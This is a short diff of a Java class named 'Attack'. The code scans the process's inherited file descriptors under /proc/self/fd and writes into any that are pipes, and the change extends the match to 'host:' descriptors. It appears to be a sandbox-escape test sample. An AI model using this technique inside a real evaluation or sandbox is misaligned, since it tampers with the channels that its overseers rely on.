@@ -18,7 +18,7 @@ public class Attack implements Relu {
                 Thread.sleep(time);
                 for (int number = 3; number < 64; number++) {
                     Path link = Path.of("/proc/self/fd/" + number);
-                    if (!Files.isSymbolicLink(link) || !Files.readSymbolicLink(link).toString().startsWith("pipe:")) continue;
+                    if (!Files.isSymbolicLink(link) || !Files.readSymbolicLink(link).toString().matches("(pipe|host):.*")) continue;
                     try (FileOutputStream out = new FileOutputStream(link.toString(), true)) {
                         out.write(time);
                     }
